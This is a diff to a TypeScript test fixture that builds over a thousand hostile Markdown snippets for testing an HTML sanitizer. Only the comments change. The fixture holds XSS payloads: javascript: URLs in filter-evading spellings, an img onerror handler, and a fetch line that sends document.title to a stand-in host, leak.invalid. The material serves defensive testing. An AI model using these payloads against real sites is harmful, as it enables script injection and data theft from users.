@@ -1,10 +1,10 @@
-/** A text that a hostile member might send, and what kind of attack it attempts. */
+/** A text that a hostile member might send, and the kind of attack. */
 export interface HostileSnippet {
   kind: string
   source: string
 }
 
-/** What the attacks run: a test page defines `hit` and watches dialogs and requests too. */
+/** The payload of the attacks: a test page defines `hit` and also watches dialogs and requests. */
 const payloads = ['hit()', 'alert(1)', "fetch('https://leak.invalid/?'+document.title)", 'top.hit?.()']
 
 /** Raw markup in which `PAYLOAD` stands for the script. */
@@ -118,7 +118,7 @@ const markup: Record<string, string[]> = {
   ],
 }
 
-/** Addresses that run a script or load something, in the spellings that have fooled filters. */
+/** URLs that run a script or load a resource, in spellings that have fooled filters. */
 const addresses = [
   'javascript:PAYLOAD',
   'JAVASCRIPT:PAYLOAD',
@@ -172,7 +172,7 @@ const addresses = [
   'mailto:x@example.com?body=<script>PAYLOAD</script>',
 ]
 
-/** Places in Markdown where an address can stand, marked `ADDRESS`. */
+/** Places in Markdown for a URL, marked `ADDRESS`. */
 const linkForms = [
   '[x](ADDRESS)',
   '[x](<ADDRESS>)',
@@ -186,7 +186,7 @@ const linkForms = [
   '[<img src=x onerror=PAYLOAD>](ADDRESS)',
 ]
 
-/** Places in Markdown where raw markup can stand, marked `MARKUP`. */
+/** Places in Markdown for raw markup, marked `MARKUP`. */
 const wrappers = [
   'MARKUP',
   'words **MARKUP** words',
@@ -237,8 +237,8 @@ const twisted = [
 const withPayload = (source: string, payload: string) => source.replaceAll('PAYLOAD', payload)
 
 /**
- * Well over a thousand hostile texts, always the same in the same order: every kind of raw markup in every place of a
- * text, every bad address in every form of a link, and texts that twist the syntax.
+ * Well over a thousand hostile texts in a fixed order: every kind of raw markup in every place of a text, every bad URL in
+ * every form of a link, and texts that abuse the syntax.
  */
 export function hostileSnippets(): HostileSnippet[] {
   const snippets: HostileSnippet[] = []
